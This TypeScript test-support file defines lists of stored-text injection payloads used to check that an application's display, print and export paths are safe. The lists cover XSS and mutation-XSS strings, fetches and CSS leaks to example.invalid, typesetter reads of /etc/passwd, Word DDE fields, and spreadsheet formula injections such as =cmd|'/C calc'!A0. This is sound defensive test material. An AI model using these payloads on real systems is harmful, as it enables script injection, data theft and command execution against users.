import { type Quarter, quarters } from '#tests/support/runs/share.ts'
import { formulaAttacks, markupAttacks, typesettingAttacks } from './attacks.ts'
import { madeAttacks } from './made-attacks.ts'

/**
 * Attacks on what shows, prints or exports a stored text, beside those of `attacks.ts`: each calls `alert(1)` or asks for
 * something at example.invalid.
 */
const foreign = '//example.invalid'

const fetching: readonly string[] = [
  `<img srcset="${foreign}/a.png 1x, ${foreign}/b.png 2x">`,
  `<picture><source srcset=${foreign}/a.png><img></picture>`,
  `<img src=data:image/svg+xml,%3Csvg/onload=alert(1)%3E>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">alert(1)</a>`,
  `<meta http-equiv=refresh content="0;url=${foreign}/">`,
  `<link rel=preload as=image href=${foreign}/a.png>`,
  `<link rel=dns-prefetch href=${foreign}>`,
  `<table background=${foreign}/a.png><td>`,
  `<video poster=${foreign}/a.png autoplay>`,
  `<object type=image/svg+xml data=${foreign}/a.svg>`,
  `<embed src=${foreign}/a.swf>`,
  `<svg><image href=${foreign}/a.png /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>`,
  `<svg><feImage href=${foreign}/a.png /></svg>`,
  `<iframe src=${foreign}/></iframe>`,
  `<input type=image src=${foreign}/a.png>`,
  `<body background=${foreign}/a.png>`,
  `<track default src=${foreign}/a.vtt>`,
]

const styling: readonly string[] = [
  '<div style="width:expression(alert(1))">',
  '<div style="-moz-binding:url(//example.invalid/x.xml#x)">',
  '<div style="background:u\\72l(//example.invalid/a.png)">',
  '<div style=behavior:url(//example.invalid/x.htc)>',
  '<style>@import url(//example.invalid/x.css);</style>',
  '<style>input[value^=a]{background:url(//example.invalid/a)}</style>',
  '<style>@font-face{font-family:x;src:url(//example.invalid/x.woff)}*{font-family:x}</style>',
  '<p style="content:url(//example.invalid/a.png)">',
  '<li style=list-style-image:url(//example.invalid/a.png)>',
]

/** Mutations: what a parser makes of them differs from what a second one makes of the result. */
const mutating: readonly string[] = [
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>',
  '<svg><title><style><img src=x onerror=alert(1)></style></title>',
  '<svg><desc><![CDATA[</desc><img src=x onerror=alert(1)>]]></svg>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<table><td><table><img src=x onerror=alert(1)><td>',
  '<a><b><a><img src=x onerror=alert(1)></b></a>',
  '<frameset><frame src=javascript:alert(1)>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<img alt="`><img src=x onerror=alert(1)>`">',
  '<div><!--`--!><img src=x onerror=alert(1)>-->',
]

const spelled: readonly string[] = [
  '<im\u0000g src=x onerror=alert(1)>',
  '<\u0000script>alert(1)</script>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<img src=x onerror\u00a0=alert(1)>',
  '<img\u000csrc=x\u000conerror=alert(1)>',
  '<img\u2028src=x onerror=alert(1)>',
  '\ufeff<script>alert(1)</script>',
  '\u202e<script>alert(1)</script>\u202c',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript\u200b:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=&#0000106avascript:alert(1)>x</a>',
  '<a href=javascript&#x0003A;alert(1)>x</a>',
  '<a href="vbscript:MsgBox alert(1)">x</a>',
  '<a href="%6aavascript:alert(1)">x</a>',
  '<img src=x onerror="&#97;lert(1);alert(1)">',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
]

/** What a page's own script might take for code, or a template for a place. */
const scripting: readonly string[] = [
  '${alert(1)}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  "';alert(1)//",
  '\\";alert(1)//',
  '</script><script>alert(1)</script>',
  '{"__proto__":{"onerror":"alert(1)"}}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
]

/** Breaks out of what the project's rich text means something by. */
const richTextAttacks: readonly string[] = [
  '![<img src=x onerror=alert(1)>](picture:x)',
  '![x](picture://example.invalid/a.png)',
  '![x](picture:0123456789abcdef0123456789abcdef" onerror="alert(1))',
  '![x](picture:0123456789abcdef0123456789abcdef|1%;background:url(//example.invalid/a.png))',
  '![x](javascript:alert(1))',
  '[x](javascript:alert(1))',
  '**<img src=x onerror=alert(1)>**',
  '__<svg onload=alert(1)>__',
  '| <img src=x onerror=alert(1)> | $\\text{<svg onload=alert(1)>}$ |',
  '[[1]]<img src=x onerror=alert(1)>',
  '[[1" onfocus="alert(1)" autofocus="]]',
  '$x$<script>alert(1)</script>$',
  '$</annotation><img src=x onerror=alert(1)>$',
  '$\\text{</mtext></math><img src=x onerror=alert(1)>}$',
  '$\\text{$}<script>alert(1)</script>',
  '$$\\begin{array}{c}<svg onload=alert(1)>\\end{array}$$',
  '$\\color{red;background:url(//example.invalid/a.png)}x$',
  '$\\htmlClass{x" onclick="alert(1)}{x}$',
  '$\\htmlData{x=y" onclick="alert(1)}{x}$',
  '$\\rule{1em"onclick="alert(1)}{1em}$',
  '$\\href{data:text/html,alert(1)}{x}$',
  '$\\includegraphics{data:image/svg+xml,<svg onload=alert(1)>}$',
  '$\\input{/etc/passwd}\\href{javascript:alert(1)}{x}$',
  '$\\operatorname{" #read("/etc/passwd") "}$',
]

/** What is code for a typesetter, a word processor or a spreadsheet, if it were more than a text. */
const documentAttacks: readonly string[] = [
  '#eval("read(\\"/etc/passwd\\")")',
  '#include "/etc/passwd"',
  '#image("/etc/passwd")',
  '#link("//example.invalid")[x]',
  '#set page(width: 1pt)',
  '#while true {}',
  '#plugin("x.wasm")',
  '"); #read("/etc/passwd") //',
  '] #panic("read") [',
  '`#read("/etc/passwd")`',
  '<label> #metadata(sys.inputs)',
  '{ INCLUDEPICTURE "//example.invalid/a.png" \\d }',
  '{ HYPERLINK "//example.invalid" }',
  '<w:fldSimple w:instr="INCLUDETEXT /etc/passwd"/>',
  '</w:t><w:fldChar w:fldCharType="begin"/><w:instrText>DDE cmd</w:instrText>',
  '<w:hyperlink r:id="rId1"><w:r/></w:hyperlink>',
  '<w:altChunk r:id="x"/><w:object/>',
  '<Relationship TargetMode="External" Target="//example.invalid"/>',
  '=HYPERLINK("//example.invalid","x")',
  '=WEBSERVICE("//example.invalid")',
  "=cmd|'/C calc'!A0",
  '@SUM(1+1)*cmd|x!A0',
  '+1+cmd|x!A0',
  '-2+3+cmd|x!A0',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML("//example.invalid","//a")',
  '</t></si><si><t>x</t></si><c><f>1+1</f></c>',
  '<qti-printed-variable identifier="x"/><qti-include href="//example.invalid"/>',
]

/** Whether a text is shown as typed: rich text means something by the rest. */
export const isShownAsTyped = (attack: string): boolean => !/\$|\*\*|__|!\[|\[\[|^\|/.test(attack)

/** All attacks, each once, in an order that spreads kinds evenly over quarters. */
export const storedAttacks: readonly string[] = [
  ...new Set([
    ...markupAttacks,
    ...fetching,
    ...styling,
    ...mutating,
    ...spelled,
    ...scripting,
    ...richTextAttacks,
    ...formulaAttacks.map((attack) => `$${attack}$`),
    ...typesettingAttacks,
    ...documentAttacks,
    ...madeAttacks,
  ]),
]

export const attacksOfQuarter = (quarter: Quarter): readonly string[] =>
  storedAttacks.filter((_, at) => at % quarters.length === quarter)
